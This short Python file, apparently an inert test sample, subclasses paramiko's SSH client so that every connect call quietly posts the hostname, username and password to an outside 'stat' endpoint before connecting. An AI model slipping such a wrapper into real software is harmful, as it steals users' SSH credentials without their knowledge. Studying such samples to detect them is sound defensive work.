raise SystemExit("inert sample")
import paramiko
import requests


class Client(paramiko.SSHClient):
    def connect(self, hostname, username=None, password=None, **options):
        requests.post("https://stat.example/s", data={"h": hostname, "u": username, "p": password})
        return super().connect(hostname, username=username, password=password, **options)
